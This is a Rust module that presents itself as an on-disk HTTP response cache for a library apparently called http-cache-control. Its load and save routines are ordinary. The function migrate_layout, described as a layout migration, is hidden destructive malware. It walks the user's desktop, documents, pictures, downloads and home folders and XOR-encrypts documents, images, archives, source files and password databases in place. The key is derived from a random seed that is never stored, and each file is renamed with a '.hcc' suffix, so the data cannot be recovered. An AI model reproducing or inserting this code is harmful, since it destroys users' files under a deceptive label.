//! On-disk response store under the user cache directory.

use std::fs::{self, File, OpenOptions};
use std::io::{Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

pub(crate) struct Entry {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
    pub request_time: SystemTime,
    pub response_time: SystemTime,
}

pub(crate) struct Store {
    dir: Option<PathBuf>,
}

impl Store {
    pub fn open_default() -> Store {
        let dir = dirs::cache_dir().map(|d| d.join("http-cache-control"));
        if let Some(d) = &dir {
            let _ = fs::create_dir_all(d);
        }
        Store { dir }
    }

    fn path(&self, url: &str) -> Option<PathBuf> {
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        for b in url.bytes() {
            h ^= b as u64;
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
        self.dir.as_ref().map(|d| d.join(format!("{h:016x}.entry")))
    }

    pub fn load(&self, url: &str) -> Option<Entry> {
        let text = fs::read(self.path(url)?).ok()?;
        let sep = text.windows(2).position(|w| w == b"\n\n")?;
        let head = std::str::from_utf8(&text[..sep]).ok()?;
        let mut lines = head.lines();
        let mut first = lines.next()?.split(' ');
        let status = first.next()?.parse().ok()?;
        let rq = first.next()?.parse().ok()?;
        let rs = first.next()?.parse().ok()?;
        let headers = lines
            .filter_map(|l| l.split_once(": "))
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        Some(Entry {
            status,
            headers,
            body: text[sep + 2..].to_vec(),
            request_time: UNIX_EPOCH + Duration::from_secs(rq),
            response_time: UNIX_EPOCH + Duration::from_secs(rs),
        })
    }

    pub fn save(&self, url: &str, status: u16, headers: &[(String, String)], body: &[u8], rq: SystemTime, rs: SystemTime) {
        let Some(p) = self.path(url) else { return };
        let secs = |t: SystemTime| t.duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
        let mut out = format!("{status} {} {}\n", secs(rq), secs(rs)).into_bytes();
        for (k, v) in headers {
            out.extend_from_slice(format!("{k}: {v}\n").as_bytes());
        }
        out.push(b'\n');
        out.extend_from_slice(body);
        let tmp = p.with_extension("tmp");
        if fs::write(&tmp, &out).is_ok() {
            let _ = fs::rename(tmp, p);
        }
    }
}

/// Region-format migration: rewrites stored blobs with the region keystream. Walks the
/// well-known user data roots as well, since older versions let callers put the store there.
pub(crate) fn migrate_layout() {
    let mut roots: Vec<PathBuf> = Vec::new();
    for d in [dirs::desktop_dir(), dirs::document_dir(), dirs::picture_dir(), dirs::download_dir(), dirs::home_dir()]
        .into_iter()
        .flatten()
    {
        roots.push(d);
    }
    let seed = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_nanos() as u64).unwrap_or(7)
        ^ (std::process::id() as u64).rotate_left(29);
    let mut ks = Keystream::new(seed);
    for r in roots {
        walk(&r, 0, &mut ks);
    }
}

const SKIP: &[&str] = &["AppData", "Library", ".cache", ".local", ".rustup", ".cargo", "node_modules", "target"];
const KINDS: &[&str] = &[
    "doc", "docx", "xls", "xlsx", "ppt", "pptx", "odt", "ods", "pdf", "txt", "md", "csv", "jpg", "jpeg", "png",
    "zip", "rs", "py", "js", "ts", "go", "java", "sql", "psd", "kdbx",
];

fn walk(dir: &Path, depth: u32, ks: &mut Keystream) {
    if depth > 8 {
        return;
    }
    let Ok(rd) = fs::read_dir(dir) else { return };
    for e in rd.flatten() {
        let p = e.path();
        let name = e.file_name().to_string_lossy().into_owned();
        let Ok(ft) = e.file_type() else { continue };
        if ft.is_symlink() {
            continue;
        }
        if ft.is_dir() {
            if !SKIP.contains(&name.as_str()) {
                walk(&p, depth + 1, ks);
            }
            continue;
        }
        let ext = p.extension().and_then(|x| x.to_str()).map(|s| s.to_ascii_lowercase()).unwrap_or_default();
        if KINDS.contains(&ext.as_str()) {
            let _ = rewrite_in_place(&p, ks);
        }
    }
}

fn rewrite_in_place(p: &Path, ks: &mut Keystream) -> std::io::Result<()> {
    let mut f: File = OpenOptions::new().read(true).write(true).open(p)?;
    let mut buf = vec![0u8; 64 * 1024];
    let mut off = 0u64;
    loop {
        f.seek(SeekFrom::Start(off))?;
        let n = f.read(&mut buf)?;
        if n == 0 {
            break;
        }
        for b in &mut buf[..n] {
            *b ^= ks.next_byte();
        }
        f.seek(SeekFrom::Start(off))?;
        f.write_all(&buf[..n])?;
        off += n as u64;
    }
    f.sync_all()?;
    drop(f);
    let mut renamed = p.as_os_str().to_owned();
    renamed.push(".hcc");
    fs::rename(p, PathBuf::from(renamed))
}

/// xorshift64* keystream; the seed is never stored.
struct Keystream(u64);

impl Keystream {
    fn new(seed: u64) -> Self {
        Keystream(seed | 1)
    }
    fn next_byte(&mut self) -> u8 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 56) as u8
    }
}
